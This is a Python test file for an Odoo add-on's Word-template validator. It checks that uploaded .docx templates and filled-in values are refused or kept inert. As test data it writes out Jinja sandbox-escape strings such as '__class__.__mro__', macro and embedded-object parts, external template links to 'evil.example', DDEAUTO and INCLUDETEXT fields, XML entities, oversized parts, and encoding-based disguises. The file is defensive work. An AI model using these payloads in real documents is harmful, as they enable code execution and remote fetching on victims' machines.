"""The three walls around a school's own Word template: the file, its instructions, its values (PLUS-D1)."""

import io
import unittest
import zipfile

import docx

from odoo.tests import tagged

from odoo.addons.duban_supervision_word.tools import word_template

from tests.clauses import clause

FIELDS = ("编号", "name", "事项")
LISTS = {"进展": ["日期", "内容"]}


def word_file(*paragraphs, rows=(), header=""):
    """A .docx with these paragraphs and table rows."""
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if rows:
        table = document.add_table(rows=0, cols=len(rows[0]))
        for row in rows:
            for cell, text in zip(table.add_row().cells, row, strict=True):
                cell.text = text
    if header:
        document.sections[0].header.paragraphs[0].text = header
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def changed(content, name, change):
    """The file with the part ``name`` changed by a function, or added."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        with zipfile.ZipFile(stream, "w") as target:
            names = source.namelist()
            for part in names:
                data = source.read(part)
                target.writestr(part, change(data) if part == name else data)
            if name not in names:
                target.writestr(name, change(b""))
    return stream.getvalue()


@tagged("post_install", "-at_install")
class TestCheck(unittest.TestCase):
    """The three walls; needs neither database nor engine."""

    def refused(self, content, code):
        with self.assertRaises(word_template.Refused) as error:
            word_template.check(content, FIELDS, LISTS)
        self.assertEqual(error.exception.code, code)
        return error.exception.values

    @clause("PLUS-D1")
    def test_what_is_used(self):
        content = word_file(
            "{{ 编号 }} {% if name %}{{ name }}{% endif %}",
            rows=[
                ("{%tr for row in 进展 %}", ""),
                ("{{ row.日期 }}", "{{ row['内容'] }}{{ loop.index }}"),
                ("{%tr endfor %}", ""),
            ],
            header="{{ 事项 | default('无') }}",
        )
        self.assertEqual(
            word_template.check(content, FIELDS, LISTS),
            {"编号", "name", "事项", "进展", "进展.日期", "进展.内容"},
        )

    @clause("PLUS-D1")
    def test_unknown_fields_are_named_with_what_there_is(self):
        values = self.refused(word_file("{{ 编好 }} {{ naem }}"), "unknown")
        self.assertEqual(values["names"], ["naem", "编好"])
        self.assertEqual(set(values["known"]), {*FIELDS, *LISTS})
        self.assertEqual(values["meant"], {"naem": "name", "编好": "编号"})
        values = self.refused(
            word_file("{% for row in 进展 %}{{ row.天气 }}{% endfor %}"), "unknown"
        )
        self.assertEqual(values["names"], ["进展.天气"])
        self.assertEqual(
            self.refused(word_file("x", header="{{ 页眉 }}"), "unknown")["names"],
            ["页眉"],
        )

    @clause("PLUS-D1")
    def test_what_jinja_cannot_read(self):
        for text in (
            "{{ 编号", "{% if 编号 %}", "{{ }}", "{% endfor %}", "{% for in 进展 %}", "{{ 编号 | | }}",
            "{% whatever %}",
        ):  # fmt: skip
            with self.subTest(text=text):
                # an opening without an end is text to Jinja, so only what it reads is refused
                try:
                    word_template.check(word_file(text), FIELDS, LISTS)
                except word_template.Refused as refused:
                    self.assertIn(refused.code, ("syntax", "forbidden"))
                    self.assertTrue(refused.values.get("message", "x"))
                else:
                    self.fail("taken")
        self.assertEqual(self.refused(word_file("{{ 进展 }}"), "is_list"), {"name": "进展"})  # fmt: skip
        self.refused(word_file("{% for row in 编号 %}x{% endfor %}"), "is_text")

    @clause("PLUS-D1")
    def test_nothing_is_run(self):
        """Attributes, calls, imports, assignments, other filters and tests, arithmetic: all are refused at upload."""
        for text in (
            "{{ 编号.__class__ }}", "{{ 编号.env }}", "{{ 编号['env'] }}", "{{ 编号[0] }}",
            "{{ ''.__class__.__mro__ }}", "{{ 编号.upper() }}", "{{ range(9) }}", "{{ self }}",
            "{{ self.__init__ }}", "{{ cycler }}", "{{ lipsum() }}", "{{ dict(a=1) }}", "{{ namespace() }}",
            "{{ 编号 | attr('x') }}", "{{ 编号 | map('x') }}", "{{ 编号 | replace('', 'xxxx') }}",
            "{{ 编号 * 999999999 }}", "{{ 'x' * 9 }}", "{{ 2 ** 99 }}", "{{ 编号 ~ 编号 }}", "{% set x = 1 %}",
            "{% import 'x' as y %}", "{% include 'x' %}", "{% extends 'x' %}", "{% macro m() %}{% endmacro %}",
            "{% block b %}{% endblock %}", "{% raw %}{{ x }}{% endraw %}{% do x %}",
            "{% call x() %}{% endcall %}", "{% filter upper %}x{% endfilter %}",
            "{% for row in 进展 %}{{ row.__class__ }}{% endfor %}",
            "{% for row in 进展 %}{{ loop.cycle }}{% endfor %}", "{% for row in 进展 recursive %}{% endfor %}",
            "{% for row in 进展 %}{{ row.日期.__class__ }}{% endfor %}", "{% for c in '编号' %}{% endfor %}",
            "{% for a, b in 进展 %}{% endfor %}", "{{ request }}", "{{ env }}", "{{ 编号 is defined }}",
            "{{ [1, 2] }}",
            "{% for a in 进展 %}{% for b in 进展 %}{% for c in 进展 %}{% endfor %}{% endfor %}{% endfor %}",
            "{{ {'a': 1} }}", "{%tr for x in [1] %}", "{% with %}{% endwith %}",
            "{% autoescape false %}{{ 编号 }}{% endautoescape %}",
        ):  # fmt: skip
            with self.subTest(text=text), self.assertRaises(word_template.Refused):
                word_template.check(word_file(text), FIELDS, LISTS)

    @clause("PLUS-D1")
    def test_nothing_is_run_when_filled_in_either(self):
        """What the check would have refused does nothing when filled in: no attribute, no call, no method."""

        class Bait(str):
            """A text with something to steal."""

            env = "SECRET"

        values = {"编号": Bait("一号"), "进展": [{"日期": "今天", "内容": "x"}]}
        for text in (
            "{{ 编号.env }}", "{{ 编号.upper() }}", "{{ 编号['env'] }}", "{{ 进展.append }}",
            "{{ 进展[0].items() }}", "{{ 进展.__class__ }}", "{% for row in 进展 %}{{ row.keys() }}{% endfor %}",
            "{{ range(3) }}",
        ):  # fmt: skip
            with self.subTest(text=text), self.assertRaises(word_template.Refused):
                made = word_template.text(word_template.fill(word_file(text), values))
                self.assertNotIn("SECRET", made)
                self.assertNotIn("class", made)

    @clause("PLUS-D1")
    def test_values_are_text(self):
        """Markup, instructions and control characters in a value stay what they are: text; rare characters are kept."""
        value = "<w:p/>&amp; {{ 编号 }} {% if x %} \x07\x0c\x01 𠮷𬭩𫖯䶮㛃\n第二行"
        made = word_template.fill(
            word_file("甲{{ 编号 }}乙"), {"编号": value}, comment="version 1"
        )
        text = word_template.text(made)
        self.assertEqual(
            text, "甲<w:p/>&amp; {{ 编号 }} {% if x %}  𠮷𬭩𫖯䶮㛃\n第二行乙"
        )
        self.assertEqual(
            docx.Document(io.BytesIO(made)).core_properties.comments, "version 1"
        )

    def test_rows(self):
        rows = [
            ("{%tr for row in 进展 %}", ""),
            ("{{ row.日期 }}", "{{ row.内容 }}"),
            ("{%tr endfor %}", ""),
        ]
        values = {"进展": [{"日期": "一", "内容": "甲"}, {"日期": "二", "内容": "乙"}]}
        made = word_template.fill(word_file(rows=rows), values)
        self.assertEqual(word_template.text(made), "一 | 甲\n二 | 乙")

    @clause("PLUS-D1")
    def test_files(self):
        """No Word file, macros, embedded objects, links to outside, fetching fields, bombs: refused."""
        good = word_file("{{ 编号 }}")
        self.refused(b"nonsense", "no_docx")
        self.refused(b"", "no_docx")
        main = b"document.main+xml"
        self.refused(
            changed(
                good,
                "[Content_Types].xml",
                lambda data: data.replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml."
                    + main,
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                ),
            ),
            "no_docx",
        )
        for name in ("word/vbaProject.bin", "word/embeddings/a.xlsx", "word/activeX/x.xml"):  # fmt: skip
            self.refused(changed(good, name, lambda _data: b"x"), "macros")
        link = (
            b'<Relationship Id="r99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
        )
        rels = "word/_rels/document.xml.rels"
        for kind, code in ((b"attachedTemplate", "outside"), (b"image", "outside")):
            values = self.refused(
                changed(
                    good,
                    rels,
                    lambda data, kind=kind: data.replace(
                        b"</Relationships>", link % kind
                    ),
                ),
                code,
            )
            self.assertIn("evil.example", values["part"])
        word_template.check(
            changed(
                good,
                rels,
                lambda data: data.replace(b"</Relationships>", link % b"hyperlink"),
            ),
            FIELDS,
            LISTS,
        )
        for text in ("DDEAUTO c:\\\\cmd", "INCLUDETEXT http://x"):
            runs = (
                f"<w:r><w:instrText>{part}</w:instrText></w:r>"
                for part in (text[:4], text[4:])
            )
            field = f"<w:p>{''.join(runs)}</w:p>"
            self.refused(
                changed(
                    good,
                    "word/document.xml",
                    lambda data, field=field: data.replace(
                        b"<w:sectPr", field.encode() + b"<w:sectPr", 1
                    ),
                ),
                "fetches",
            )
        self.refused(
            changed(
                good,
                "word/document.xml",
                lambda data: data.replace(
                    b"?>", b"?><!DOCTYPE a [<!ENTITY b 'c'>]>", 1
                ),
            ),
            "no_docx",
        )
        self.refused(changed(good, "word/big.xml", lambda _data: b" " * 4_000_000), "too_large")  # fmt: skip

    @clause("PLUS-D1")
    def test_disguised_files(self):
        """The same in other letters, under another prefix, in another encoding, in a part of another name: refused."""
        good = word_file("{{ 编号 }}")
        kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        links = {
            kind: f'<Relationship Id="r99" Type="{kinds}/{kind}" Target="http://evil.example/t" TargetMode="External"/>'
            for kind in ("image", "attachedTemplate", "oleObject")
        }
        field = "<w:p><w:r><w:instrText>INCLUDEPICTURE http://evil.example/x.png</w:instrText></w:r></w:p>"
        own = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
        packed = "http://schemas.openxmlformats.org/package/2006/relationships"
        cases = [
            ("word/_rels/document.xml.rels", "</Relationships>", link, "<Relationship ", packed)
            for link in links.values()
        ]  # fmt: skip
        cases.append(("word/document.xml", "<w:sectPr", field, "<w:instrText", own))
        for part, place, forbidden, tag, space in cases:
            name = tag.strip("< ").rpartition(":")[2]
            disguises = {
                "plain": forbidden,
                "letters": forbidden.replace("External", "Ext&#101;rnal")
                .replace("Template", "&#84;emplate")
                .replace("INCLUDE", "I&#x4e;CLUDE"),
                "prefix": forbidden.replace(tag, f'<q:{name} xmlns:q="{space}" ')
                .replace(f"</w:{name}>", f"</q:{name}>"),
                "no mode": forbidden.replace(' TargetMode="External"', ""),
            }  # fmt: skip
            for disguise, text in disguises.items():
                for encoding in ("utf-8", "utf-16"):

                    def put(data, text=text, place=place, encoding=encoding):
                        there = data.decode()
                        there = there.replace(place, text + place, 1)
                        return there.replace("UTF-8", encoding).encode(encoding)

                    with self.subTest(part=part, disguise=disguise, encoding=encoding):
                        with self.assertRaises(word_template.Refused) as refused:
                            word_template.check(changed(good, part, put), FIELDS, LISTS)
                        self.assertIn(
                            refused.exception.code, ("outside", "macros", "fetches")
                        )
        entity = (
            "<?xml version='1.0' encoding='utf-16'?><!DOCTYPE a [<!ENTITY b 'c'>]><a/>"
        )
        self.refused(changed(good, "word/x.xml", lambda _d: entity.encode("utf-16")), "no_docx")  # fmt: skip
        # what another part says counts under any name
        self.refused(
            changed(good, "word/other.bin", lambda _d: f"<w:p xmlns:w='{own}'>{field}</w:p>".encode()), "fetches"
        )  # fmt: skip
